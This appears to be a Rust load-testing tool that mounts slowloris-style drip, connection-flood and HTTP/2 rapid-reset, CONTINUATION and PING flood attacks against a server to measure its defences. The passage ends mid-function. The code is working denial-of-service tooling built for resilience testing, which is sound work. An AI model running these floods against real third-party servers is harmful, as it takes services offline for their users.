//! Attack client for bench/attacks.sh (and soak scripts): slow clients, connection floods
//! and HTTP/2 floods against one server, with a one-line JSON summary on stdout at the end.
//!
//! ```text
//! attack drip ADDR --conns N --interval-ms MS --secs S
//! attack flood ADDR --conns N --mode idle|byte|request --secs S
//! attack h2-rapid-reset ADDR --conns N --secs S
//! attack h2-continuation ADDR --conns N --secs S
//! attack h2-ping ADDR --conns N --secs S
//! ```
//!
//! - `drip`: N connections; each sends a valid `GET / HTTP/1.1` head one byte every MS ms
//!   (default 10), waits for the answer, then starts the next request; a connection the
//!   server closes is opened again at the next tick. Counts bytes sent, heads completed,
//!   answers (2xx / other), server closes and after how long (connection lifetime).
//! - `flood`: opens N connections (idle: connect only; byte: send `G`; request: send one full
//!   `GET /` and read its answer), then holds them. Reports how many connected, connect
//!   errors, how many the server closed and when (first / median / last, from the start
//!   and from each connection's connect), and what it sent unasked (e.g. a 408). Closes are
//!   seen by a non-blocking read sweep over all connections every 50 ms (more than 1,000
//!   connections: every 250 ms), so their times are that coarse (`sweep_ms`).
//! - `h2-rapid-reset`: h2c with prior knowledge (preface, SETTINGS, waits for the server's
//!   SETTINGS and ACKs it), then HEADERS (GET /, END_STREAM | END_HEADERS) immediately
//!   followed by RST_STREAM (CANCEL) on new odd stream ids, 64 pairs per write, as fast as
//!   the socket takes them. A reader thread reads and discards what the server sends and
//!   notes its GOAWAY (code, debug data) and when it closed.
//! - `h2-continuation`: HEADERS (END_STREAM, no END_HEADERS) then CONTINUATION frames of
//!   16 KiB of literal header fields (`x-flood: aaa...`, 1,000-octet values, literal without
//!   indexing) without end; the reader notes how and when the server cut it off.
//! - `h2-ping`: PING frames, 256 per write, as fast as the socket takes them, never reading
//!   the ACKs while flooding (the client that CVE-2019-9512 is about: the server's answers
//!   pile up). When the connection fails or the time is up, what the server had sent is read
//!   (at most 1 s, 64 MiB) to find its GOAWAY.
//!
//! `sent` in the HTTP/2 summaries counts what the kernel accepted on the socket; after the
//! server's GOAWAY or close, part of it was never processed (a loopback socket buffers MBs).
//!
//! The HTTP/2 modes (and drip) open a new connection when the server closes one or sends
//! GOAWAY, as a real attacker would, until the time is up: the summary counts connections,
//! how each ended (goaway / server_close / reset / deadline) and after how long.
//!
//! Bounds: N at most 20,000 (HTTP/2 modes: 2,000, two threads per connection), S at most
//! 600 s, every connect (3 s), read and write has a timeout; the summary comes at most a few
//! seconds after S (a last HTTP/2 handshake, 3 s; a PING drain, 1 s). A line on stdin stops the attack
//! early (EOF is ignored), then the summary is printed. One line on stderr starting with
//! `attack: ready` says when the attack is established (flood: all connects done; drip and
//! HTTP/2: the first connections up), so that a caller can start measuring.
//!
//! std only; no dependencies.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const MAX_CONNS: usize = 20_000;
const MAX_H2_CONNS: usize = 2_000;
const MAX_SECS: f64 = 600.0;
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);
/// How long the HTTP/2 handshake (the server's SETTINGS) may take.
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(3);
/// Write timeout of the HTTP/2 writers: how often a stalled writer looks at the clock.
const WRITE_SLICE: Duration = Duration::from_millis(200);

const HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// :method GET, :scheme http, :path / (static table 2, 6, 4), :authority 127.0.0.1 (literal
/// without indexing, name from static table entry 1, plain 9-octet value).
const GET_BLOCK: &[u8] = &[
    0x82, 0x86, 0x84, 0x01, 0x09, b'1', b'2', b'7', b'.', b'0', b'.', b'0', b'.', b'1',
];
const FRAME_HEADERS: u8 = 0x1;
const FRAME_RST_STREAM: u8 = 0x3;
const FRAME_SETTINGS: u8 = 0x4;
const FRAME_PING: u8 = 0x6;
const FRAME_GOAWAY: u8 = 0x7;
const FRAME_CONTINUATION: u8 = 0x9;
const FLAG_END_STREAM: u8 = 0x1;
const FLAG_ACK: u8 = 0x1;
const FLAG_END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;
const FRAME_NAMES: [&str; 10] = [
    "DATA",
    "HEADERS",
    "PRIORITY",
    "RST_STREAM",
    "SETTINGS",
    "PUSH_PROMISE",
    "PING",
    "GOAWAY",
    "WINDOW_UPDATE",
    "CONTINUATION",
];

static STOP: AtomicBool = AtomicBool::new(false);

fn stopped() -> bool {
    STOP.load(Ordering::Relaxed)
}

/// A line on stdin stops the attack; EOF (stdin is /dev/null) is ignored.
fn watch_stdin() {
    std::thread::spawn(|| {
        let mut line = String::new();
        if let Ok(n) = std::io::stdin().read_line(&mut line) {
            if n > 0 {
                STOP.store(true, Ordering::Relaxed);
            }
        }
    });
}

// ---------------------------------------------------------------------------- JSON output

fn json_str(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            c if (c as u32) < 0x20 || c == '\u{7f}' => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

/// A JSON object written field by field.
struct Obj(Vec<String>);

impl Obj {
    fn new() -> Self {
        Obj(Vec::new())
    }
    fn raw(mut self, k: &str, v: impl std::fmt::Display) -> Self {
        self.0.push(format!("{}:{}", json_str(k), v));
        self
    }
    fn str(self, k: &str, v: &str) -> Self {
        let s = json_str(v);
        self.raw(k, s)
    }
    fn ms(self, k: &str, d: Duration) -> Self {
        self.raw(k, format!("{:.1}", d.as_secs_f64() * 1000.0))
    }
}

impl std::fmt::Display for Obj {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{{{}}}", self.0.join(","))
    }
}

/// `{"n", "first", "median", "last"}` of a list of milliseconds (sorted here), or null.
fn spread(v: &mut [f64]) -> String {
    if v.is_empty() {
        return "null".into();
    }
    v.sort_by(|a, b| a.total_cmp(b));
    format!(
        "{{\"n\":{},\"first\":{:.1},\"median\":{:.1},\"last\":{:.1}}}",
        v.len(),
        v[0],
        v[v.len() / 2],
        v[v.len() - 1]
    )
}

fn counts_json<K: AsRef<str>>(m: &BTreeMap<K, u64>) -> String {
    let mut o = Obj::new();
    for (k, v) in m {
        o = o.raw(k.as_ref(), v);
    }
    o.to_string()
}

fn ms_f(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

// ---------------------------------------------------------------------------- arguments

struct Args {
    mode: String,
    target: String,
    addr: SocketAddr,
    conns: usize,
    secs: f64,
    interval_ms: u64,
    flood_mode: String,
}

const USAGE: &str = "usage:
  attack drip ADDR --conns N --interval-ms MS --secs S
  attack flood ADDR --conns N --mode idle|byte|request --secs S
  attack h2-rapid-reset ADDR --conns N --secs S
  attack h2-continuation ADDR --conns N --secs S
  attack h2-ping ADDR --conns N --secs S
N <= 20000 (HTTP/2 modes: 2000), S <= 600; a line on stdin stops early; one JSON line on stdout.";

fn parse_args() -> Result<Args, String> {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    if argv.len() < 2 {
        return Err("missing MODE and ADDR".into());
    }
    let mode = argv[0].clone();
    if ![
        "drip",
        "flood",
        "h2-rapid-reset",
        "h2-continuation",
        "h2-ping",
    ]
    .contains(&mode.as_str())
    {
        return Err(format!("unknown mode '{mode}'"));
    }
    let target = argv[1].clone();
    let addr = target
        .to_socket_addrs()
        .map_err(|e| format!("ADDR '{target}': {e}"))?
        .next()
        .ok_or_else(|| format!("ADDR '{target}': no address"))?;
    let mut flags: BTreeMap<String, String> = BTreeMap::new();
    let mut i = 2;
    while i < argv.len() {
        let a = &argv[i];
        let Some(name) = a.strip_prefix("--") else {
            return Err(format!("unexpected argument '{a}'"));
        };
        if let Some((k, v)) = name.split_once('=') {
            flags.insert(k.to_string(), v.to_string());
            i += 1;
        } else {
            let v = argv
                .get(i + 1)
                .ok_or_else(|| format!("--{name} needs a value"))?;
            flags.insert(name.to_string(), v.clone());
            i += 2;
        }
    }
    let allowed: &[&str] = match mode.as_str() {
        "drip" => &["conns", "interval-ms", "secs"],
        "flood" => &["conns", "mode", "secs"],
        _ => &["conns", "secs"],
    };
    if let Some(k) = flags.keys().find(|k| !allowed.contains(&k.as_str())) {
        return Err(format!("mode {mode} takes no --{k}"));
    }
    let conns: usize = flags
        .get("conns")
        .ok_or("--conns is required")?
        .parse()
        .map_err(|_| "--conns: not a number")?;
    let max = if mode.starts_with("h2-") {
        MAX_H2_CONNS
    } else {
        MAX_CONNS
    };
    if conns == 0 || conns > max {
        return Err(format!("--conns must be 1..={max}"));
    }
    let secs: f64 = flags
        .get("secs")
        .ok_or("--secs is required")?
        .parse()
        .map_err(|_| "--secs: not a number")?;
    if secs.is_nan() || secs <= 0.0 || secs > MAX_SECS {
        return Err(format!("--secs must be above 0 and at most {MAX_SECS}"));
    }
    let interval_ms: u64 = match flags.get("interval-ms") {
        Some(v) => v.parse().map_err(|_| "--interval-ms: not a number")?,
        None => 10,
    };
    if !(1..=60_000).contains(&interval_ms) {
        return Err("--interval-ms must be 1..=60000".into());
    }
    let flood_mode = flags.get("mode").cloned().unwrap_or_default();
    if mode == "flood" && !["idle", "byte", "request"].contains(&flood_mode.as_str()) {
        return Err("flood needs --mode idle|byte|request".into());
    }
    Ok(Args {
        mode,
        target,
        addr,
        conns,
        secs,
        interval_ms,
        flood_mode,
    })
}

fn main() {
    let a = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("attack: {e}\n{USAGE}");
            std::process::exit(2);
        }
    };
    watch_stdin();
    let summary = match a.mode.as_str() {
        "drip" => drip(&a),
        "flood" => flood(&a),
        "h2-rapid-reset" => h2(&a, H2Kind::RapidReset),
        "h2-continuation" => h2(&a, H2Kind::Continuation),
        _ => h2(&a, H2Kind::Ping),
    };
    println!("{summary}");
    let _ = std::io::stdout().flush();
    // Connections and threads still open are dropped with the process.
    std::process::exit(0);
}

fn base(a: &Args, t0: Instant) -> Obj {
    Obj::new()
        .str("mode", &a.mode)
        .str("target", &a.target)
        .raw("conns", a.conns)
        .raw("secs", a.secs)
        .ms("elapsed_ms", t0.elapsed())
        .raw("stopped_by_stdin", stopped())
}

fn is_reset(e: &std::io::Error) -> bool {
    matches!(
        e.kind(),
        ErrorKind::ConnectionReset | ErrorKind::BrokenPipe | ErrorKind::ConnectionAborted
    )
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

/// The head of a response (up to its blank line, or all of `buf`), its status code (0 if
/// unreadable) and its status line.
fn head_status(buf: &[u8]) -> (String, u16, String) {
    let end = find(buf, b"\r\n\r\n").map_or(buf.len(), |p| p + 4);
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    let first = head.lines().next().unwrap_or("").to_string();
    let status: u16 = first
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (head, status, first)
}

/// One complete HTTP/1.x response at the start of `buf`: (its length, status, status line).
/// Content-Length or chunked bodies (the end found by the last chunk); none for 1xx, 204,
/// 304.
fn parse_response(buf: &[u8]) -> Option<(usize, u16, String)> {
    let end = find(buf, b"\r\n\r\n")? + 4;
    let (head, status, first) = head_status(&buf[..end]);
    let mut len = 0usize;
    let mut chunked = false;
    for line in head.split("\r\n").skip(1) {
        let l = line.to_ascii_lowercase();
        if let Some(v) = l.strip_prefix("content-length:") {
            len = v.trim().parse().unwrap_or(0);
        } else if l.starts_with("transfer-encoding:") && l.contains("chunked") {
            chunked = true;
        }
    }
    if (100..200).contains(&status) || status == 204 || status == 304 {
        return Some((end, status, first));
    }
    if chunked {
        let p = find(&buf[end..], b"0\r\n\r\n")?;
        return Some((end + p + 5, status, first));
    }
    if buf.len() < end + len {
        return None;
    }
    Some((end + len, status, first))
}

// ---------------------------------------------------------------------------- drip

struct DripConn {
    s: Option<TcpStream>,
    since: Instant,
    pos: usize,
    awaiting: bool,
    buf: Vec<u8>,
}

#[derive(Default)]
struct DripStats {
    connects: u64,
    connect_errors: u64,
    first_error: String,
    bytes_sent: u64,
    heads_sent: u64,
    responses: u64,
    status_2xx: u64,
    status_other: u64,
    first_other_status: String,
    server_closes: u64,
    resets: u64,
    write_blocked: u64,
    late_ticks: u64,
    ticks: u64,
    close_after: Vec<f64>,
    close_at: Vec<f64>,
}

impl DripStats {
    fn error(&mut self, e: String) {
        if self.first_error.is_empty() {
            self.first_error = e;
        }
    }
}

fn drip_connect(c: &mut DripConn, addr: SocketAddr, deadline: Instant, st: &mut DripStats) {
    let left = deadline.saturating_duration_since(Instant::now());
    if left.is_zero() {
        return;
    }
    match TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT.min(left)) {
        Ok(s) => {
            let _ = s.set_nodelay(true);
            if let Err(e) = s.set_nonblocking(true) {
                st.connect_errors += 1;
                st.error(format!("set_nonblocking: {e}"));
                return;
            }
            st.connects += 1;
            c.s = Some(s);
            c.since = Instant::now();
            c.pos = 0;
            c.awaiting = false;
            c.buf.clear();
        }
        Err(e) => {
            st.connect_errors += 1;
            st.error(format!("connect: {e}"));
        }
    }
}

fn drip_closed(c: &mut DripConn, st: &mut DripStats, t0: Instant, reset: bool) {
    let now = Instant::now();
    st.server_closes += 1;
    if reset {
        st.resets += 1;
    }
    st.close_after.push(ms_f(now - c.since));
    st.close_at.push(ms_f(now - t0));
    c.s = None;
}

fn drip_read(c: &mut DripConn, st: &mut DripStats, t0: Instant) {
    let mut chunk = [0u8; 4096];
    // The end of the connection, if it came: Some(reset).
    let mut end: Option<bool> = None;
    loop {
        let Some(s) = c.s.as_mut() else { return };
        match s.read(&mut chunk) {
            Ok(0) => {
                end = Some(false);
                break;
            }
            Ok(n) => {
                c.buf.extend_from_slice(&chunk[..n]);
                if c.buf.len() > 1 << 20 {
                    c.buf.clear(); // not a response we understand: bounded
                }
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => {
                st.error(format!("read: {e}"));
                end = Some(true);
                break;
            }
        }
    }
    // Answers first (one that arrived with the close counts too), then the close.
    loop {
        let (used, status, line) = match parse_response(&c.buf) {
            Some(r) => r,
            // A body delimited by the close: the head is the answer.
            None if end.is_some() && find(&c.buf, b"\r\n\r\n").is_some() => {
                let (_, status, line) = head_status(&c.buf);
                (c.buf.len(), status, line)
            }
            None => break,
        };
        c.buf.drain(..used);
        st.responses += 1;
        if (200..300).contains(&status) {
            st.status_2xx += 1;
        } else {
            st.status_other += 1;
            if st.first_other_status.is_empty() {
                st.first_other_status = line;
            }
        }
        // The next request starts from its first byte (also after an early 4xx).
        c.awaiting = false;
        c.pos = 0;
    }
    if let Some(reset) = end {
        drip_closed(c, st, t0, reset);
    }
}

fn drip_write(c: &mut DripConn, st: &mut DripStats, t0: Instant) {
    let Some(s) = c.s.as_mut() else { return };
    match s.write(&HEAD[c.pos..c.pos + 1]) {
        Ok(1) => {
            st.bytes_sent += 1;
            c.pos += 1;
            if c.pos == HEAD.len() {
                c.awaiting = true;
                st.heads_sent += 1;
            }
        }
        Ok(_) => {
            st.error("write returned 0".into());
            drip_closed(c, st, t0, true);
        }
        Err(e) if e.kind() == ErrorKind::WouldBlock => st.write_blocked += 1,
        Err(e) if e.kind() == ErrorKind::Interrupted => {}
        Err(e) => {
            st.error(format!("write: {e}"));
            drip_closed(c, st, t0, true);
        }
    }
}

fn drip(a: &Args) -> String {
    let t0 = Instant::now();
    let deadline = t0 + Duration::from_secs_f64(a.secs);
    let interval = Duration::from_millis(a.interval_ms);
    let mut st = DripStats::default();
    let mut conns: Vec<DripConn> = (0..a.conns)
        .map(|_| DripConn {
            s: None,
            since: t0,
            pos: 0,
            awaiting: false,
            buf: Vec::new(),
        })
        .collect();
    for c in conns.iter_mut() {
        if stopped() || Instant::now() >= deadline {
            break;
        }
        drip_connect(c, a.addr, deadline, &mut st);
    }
    eprintln!(
        "attack: ready drip connected={} connect_errors={} in {:.1} ms",
        st.connects,
        st.connect_errors,
        ms_f(t0.elapsed())
    );
    let mut next = Instant::now();
    while !stopped() && Instant::now() < deadline {
        st.ticks += 1;
        for c in conns.iter_mut() {
            if c.s.is_none() {
                drip_connect(c, a.addr, deadline, &mut st);
                continue;
            }
            drip_read(c, &mut st, t0);
            if c.s.is_some() && !c.awaiting {
                drip_write(c, &mut st, t0);
            }
        }
        next += interval;
        let now = Instant::now();
        if next <= now {
            st.late_ticks += 1;
            next = now;
        } else {
            std::thread::sleep((next - now).min(deadline.saturating_duration_since(now)));
        }
    }
    let open = conns.iter().filter(|c| c.s.is_some()).count();
    base(a, t0)
        .raw("interval_ms", a.interval_ms)
        .raw("head_bytes", HEAD.len())
        .raw("connects", st.connects)
        .raw("connect_errors", st.connect_errors)
        .raw("bytes_sent", st.bytes_sent)
        .raw("heads_sent", st.heads_sent)
        .raw("responses", st.responses)
        .raw("status_2xx", st.status_2xx)
        .raw("status_other", st.status_other)
        .str("first_other_status", &st.first_other_status)
        .raw("server_closes", st.server_closes)
        .raw("resets", st.resets)
        .raw("close_after_ms", spread(&mut st.close_after))
        .raw("close_at_ms", spread(&mut st.close_at))
        .raw("open_at_end", open)
        .raw("write_blocked", st.write_blocked)
        .raw("ticks", st.ticks)
        .raw("late_ticks", st.late_ticks)
        .str("first_error", &st.first_error)
        .to_string()
}

// ---------------------------------------------------------------------------- flood

struct FloodConn {
    s: TcpStream,
    since: Instant,
    open: bool,
    waiting: bool,
    sent_unasked: bool,
    buf: Vec<u8>,
}

#[derive(Default)]
struct FloodStats {
    closed: u64,
    resets: u64,
    responses_ok: u64,
    responses_other: u64,
    server_sent: u64,
    first_server_line: String,
    close_after: Vec<f64>,
    close_at: Vec<f64>,
}

fn flood_poll(c: &mut FloodConn, st: &mut FloodStats, t0: Instant) {
    let mut chunk = [0u8; 4096];
    loop {
        match c.s.read(&mut chunk) {
            Ok(0) => break flood_closed(c, st, t0, false),
            Ok(n) => {
                if c.waiting {
                    c.buf.extend_from_slice(&chunk[..n]);
                    if let Some((_, status, line)) = parse_response(&c.buf) {
                        flood_answered(c, st, status, line);
                    } else if c.buf.len() > 1 << 16 {
                        c.buf.clear();
                    }
                } else if !c.sent_unasked {
                    // Bytes nobody asked for: e.g. a 408 before the server closes.
                    c.sent_unasked = true;
                    st.server_sent += 1;
                    if st.first_server_line.is_empty() {
                        let t = String::from_utf8_lossy(&chunk[..n]);
                        st.first_server_line = t.lines().next().unwrap_or("").to_string();
                    }
                }
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => break flood_closed(c, st, t0, true),
        }
    }
}

fn flood_answered(c: &mut FloodConn, st: &mut FloodStats, status: u16, line: String) {
    c.waiting = false;
    c.buf = Vec::new();
    if (200..300).contains(&status) {
        st.responses_ok += 1;
    } else {
        st.responses_other += 1;
        if st.first_server_line.is_empty() {
            st.first_server_line = line;
        }
    }
}

fn flood_closed(c: &mut FloodConn, st: &mut FloodStats, t0: Instant, reset: bool) {
    let now = Instant::now();
    if c.waiting && find(&c.buf, b"\r\n\r\n").is_some() {
        // An answer whose body ended with the connection.
        let (_, status, line) = head_status(&c.buf);
        flood_answered(c, st, status, line);
    }
    c.open = false;
    st.closed += 1;
    if reset {
        st.resets += 1;
    }
    st.close_after.push(ms_f(now - c.since));
    st.close_at.push(ms_f(now - t0));
    let _ = c.s.shutdown(Shutdown::Both);
}

fn flood(a: &Args) -> String {
    let t0 = Instant::now();
    let deadline = t0 + Duration::from_secs_f64(a.secs);
    let payload: &[u8] = match a.flood_mode.as_str() {
        "idle" => b"",
        "byte" => b"G",
        _ => HEAD,
    };
    let mut conns: Vec<FloodConn> = Vec::with_capacity(a.conns);
    let (mut connect_errors, mut write_errors, mut not_tried) = (0u64, 0u64, 0u64);
    let mut first_error = String::new();
    for _ in 0..a.conns {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() || stopped() {
            not_tried += 1;
            continue;
        }
        match TcpStream::connect_timeout(&a.addr, CONNECT_TIMEOUT.min(left)) {
            Ok(mut s) => {
                let _ = s.set_nodelay(true);
                if !payload.is_empty() {
                    let _ = s.set_write_timeout(Some(Duration::from_secs(1)));
                    if let Err(e) = s.write_all(payload) {
                        write_errors += 1;
                        if first_error.is_empty() {
                            first_error = format!("write: {e}");
                        }
                        continue;
                    }
                }
                if let Err(e) = s.set_nonblocking(true) {
                    write_errors += 1;
                    if first_error.is_empty() {
                        first_error = format!("set_nonblocking: {e}");
                    }
                    continue;
                }
                conns.push(FloodConn {
                    s,
                    since: Instant::now(),
                    open: true,
                    waiting: a.flood_mode == "request",
                    sent_unasked: false,
                    buf: Vec::new(),
                });
            }
            Err(e) => {
                connect_errors += 1;
                if first_error.is_empty() {
                    first_error = format!("connect: {e}");
                }
            }
        }
    }
    let connect_time = t0.elapsed();
    eprintln!(
        "attack: ready flood {} connected={} connect_errors={} in {:.1} ms",
        a.flood_mode,
        conns.len(),
        connect_errors,
        ms_f(connect_time)
    );
    let sweep = if conns.len() > 1000 {
        Duration::from_millis(250)
    } else {
        Duration::from_millis(50)
    };
    let mut st = FloodStats::default();
    let mut answered_at: Option<Duration> = None;
    loop {
        for c in conns.iter_mut().filter(|c| c.open) {
            flood_poll(c, &mut st, t0);
        }
        if answered_at.is_none() && conns.iter().all(|c| !c.waiting || !c.open) {
            answered_at = Some(t0.elapsed());
        }
        let now = Instant::now();
        if stopped() || now >= deadline {
            break;
        }
        std::thread::sleep(sweep.min(deadline - now));
    }
    let open = conns.iter().filter(|c| c.open).count();
    let unanswered = conns.iter().filter(|c| c.open && c.waiting).count();
    let mut o = base(a, t0)
        .str("flood_mode", &a.flood_mode)
        .raw("connected", conns.len())
        .raw("connect_errors", connect_errors)
        .raw("write_errors", write_errors)
        .raw("not_tried", not_tried)
        .str("first_error", &first_error)
        .ms("connect_ms", connect_time)
        .raw("closed_by_server", st.closed)
        .raw("resets", st.resets)
        .raw("still_open", open)
        .raw("close_at_ms", spread(&mut st.close_at))
        .raw("close_after_ms", spread(&mut st.close_after))
        .raw("server_sent_unasked", st.server_sent)
        .str("first_server_line", &st.first_server_line)
        .raw("sweep_ms", sweep.as_millis());
    if a.flood_mode == "request" {
        o = o
            .raw("responses_ok", st.responses_ok)
            .raw("responses_other", st.responses_other)
            .raw("unanswered_open", unanswered)
            .raw(
                "all_answered_at_ms",
                answered_at.map_or("null".into(), |d| format!("{:.1}", ms_f(d))),
            );
    }
    o.to_string()
}

// ---------------------------------------------------------------------------- HTTP/2

#[derive(Clone, Copy, PartialEq, Eq)]
enum H2Kind {
    RapidReset,
    Continuation,
    Ping,
}

fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, sid: u32, payload: &[u8]) {
    let n = payload.len();
    out.extend_from_slice(&[(n >> 16) as u8, (n >> 8) as u8, n as u8, ty, flags]);
    out.extend_from_slice(&(sid & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer (RFC 7541 §5.1) with a `prefix_bits` prefix, `first` holding the bits
/// above it.
fn hpack_int(out: &mut Vec<u8>, prefix_bits: u32, first: u8, mut v: usize) {
    let max = (1usize << prefix_bits) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// One CONTINUATION payload: as many `x-flood: <1,000 x 'a'>` literal header fields without
/// indexing (new name, no Huffman) as fit in 16,384 octets.
fn flood_fields() -> Vec<u8> {
    let mut one = vec![0x00];
    hpack_int(&mut one, 7, 0, 7);
    one.extend_from_slice(b"x-flood");
    hpack_int(&mut one, 7, 0, 1000);
    one.resize(one.len() + 1000, b'a');
    let mut out = Vec::with_capacity(16_384);
    while out.len() + one.len() <= 16_384 {
        out.extend_from_slice(&one);
    }
    out
}

fn code_name(code: u32) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    NAMES
        .get(code as usize)
        .map_or_else(|| format!("0x{code:x}"), |s| s.to_string())
}

#[derive(Clone)]
struct GoAway {
    code: u32,
    last_stream: u32,
    debug: String,
}

/// Reads frames as a stream of bytes: counts them by type, keeps the first GOAWAY.
#[derive(Default)]
struct FrameReader {
    hdr: Vec<u8>,
    skip: usize,
    keeping: bool,
    keep: Vec<u8>,
    counts: [u64; 10],
    other: u64,
    goaway: Option<GoAway>,
}

impl FrameReader {
    /// Feeds bytes; true when they completed the first GOAWAY.
    fn feed(&mut self, mut data: &[u8]) -> bool {
        let mut got = false;
        while !data.is_empty() {
            if self.skip > 0 {
                let n = self.skip.min(data.len());
                if self.keeping && self.keep.len() < 256 {
                    let k = n.min(256 - self.keep.len());
                    self.keep.extend_from_slice(&data[..k]);
                }
                self.skip -= n;
                data = &data[n..];
                if self.skip == 0 {
                    got |= self.frame_done();
                }
                continue;
            }
            let n = (9 - self.hdr.len()).min(data.len());
            self.hdr.extend_from_slice(&data[..n]);
            data = &data[n..];
            if self.hdr.len() == 9 {
                let h = &self.hdr;
                let len = ((h[0] as usize) << 16) | ((h[1] as usize) << 8) | h[2] as usize;
                let ty = h[3] as usize;
                self.hdr.clear();
                match self.counts.get_mut(ty) {
                    Some(c) => *c += 1,
                    None => self.other += 1,
                }
                self.keeping = ty == FRAME_GOAWAY as usize;
                self.keep.clear();
                self.skip = len;
                if len == 0 {
                    got |= self.frame_done();
                }
            }
        }
        got
    }

    fn frame_done(&mut self) -> bool {
        let was = std::mem::take(&mut self.keeping);
        if was && self.goaway.is_none() && self.keep.len() >= 8 {
            let k = &self.keep;
            self.goaway = Some(GoAway {
                last_stream: u32::from_be_bytes([k[0], k[1], k[2], k[3]]) & 0x7fff_ffff,
                code: u32::from_be_bytes([k[4], k[5], k[6], k[7]]),
                debug: String::from_utf8_lossy(&k[8..]).into_owned(),
            });
            return true;
        }
        false
    }
}

/// Connects, sends the preface and an empty SETTINGS, and reads until the server's SETTINGS
/// (not an ACK). Returns the stream and the bytes read after that frame.
fn h2_connect(addr: SocketAddr, deadline: Instant) -> Result<(TcpStream, Vec<u8>), String> {
    let left = deadline.saturating_duration_since(Instant::now());
    if left.is_zero() {
        return Err("deadline".into());
    }
    let mut s = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT.min(left))
        .map_err(|e| format!("connect: {e}"))?;
    let _ = s.set_nodelay(true);
    let mut out = PREFACE.to_vec();
    frame(&mut out, FRAME_SETTINGS, 0, 0, &[]);
    s.set_write_timeout(Some(HANDSHAKE_TIMEOUT))
        .and_then(|_| s.set_read_timeout(Some(Duration::from_millis(200))))
        .map_err(|e| e.to_string())?;
    s.write_all(&out)
        .map_err(|e| format!("write preface: {e}"))?;
    let until = Instant::now() + HANDSHAKE_TIMEOUT;
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        let mut off = 0;
        while buf.len() >= off + 9 {
            let h = &buf[off..off + 9];
            let len = ((h[0] as usize) << 16) | ((h[1] as usize) << 8) | h[2] as usize;
            let (ty, flags) = (h[3], h[4]);
            if buf.len() < off + 9 + len {
                break;
            }
            off += 9 + len;
            if ty == FRAME_SETTINGS && flags & FLAG_ACK == 0 {
                return Ok((s, buf[off..].to_vec()));
            }
        }
        if buf.starts_with(b"HTTP/") && find(&buf, b"\r\n").is_some() {
            let line = String::from_utf8_lossy(&buf[..find(&buf, b"\r\n").unwrap_or(0)]);
            return Err(format!("not HTTP/2: the server answered '{line}'"));
        }
        if Instant::now() >= until || stopped() {
            return Err("no SETTINGS from the server within 3 s".into());
        }
        match s.read(&mut chunk) {
            Ok(0) => return Err("closed before its SETTINGS".into()),
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(format!("read SETTINGS: {e}")),
        }
    }
}

/// What one connection's reader saw.
struct ReadEnd {
    frames: FrameReader,
    bytes: u64,
    goaway_at: Option<Instant>,
    /// "server_close" (EOF), "reset", or "local" (we shut it down first).
    end: &'static str,
    end_at: Instant,
}

/// Per-connection flags shared by the writer and its reader.
#[derive(Default)]
struct ConnFlags {
    /// The reader saw GOAWAY, EOF or an error: the writer stops.
    done: AtomicBool,
    /// We shut the connection down ourselves (deadline, or after a write error).
    local: AtomicBool,
}

fn reader(mut s: TcpStream, first: Vec<u8>, flags: Arc<ConnFlags>) -> ReadEnd {
    let mut r = ReadEnd {
        frames: FrameReader::default(),
        bytes: first.len() as u64,
        goaway_at: None,
        end: "local",
        end_at: Instant::now(),
    };
    if r.frames.feed(&first) {
        r.goaway_at = Some(Instant::now());
        flags.done.store(true, Ordering::Relaxed);
    }
    let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        match s.read(&mut chunk) {
            Ok(0) => {
                r.end = if flags.local.load(Ordering::Relaxed) {
                    "local"
                } else {
                    "server_close"
                };
                break;
            }
            Ok(n) => {
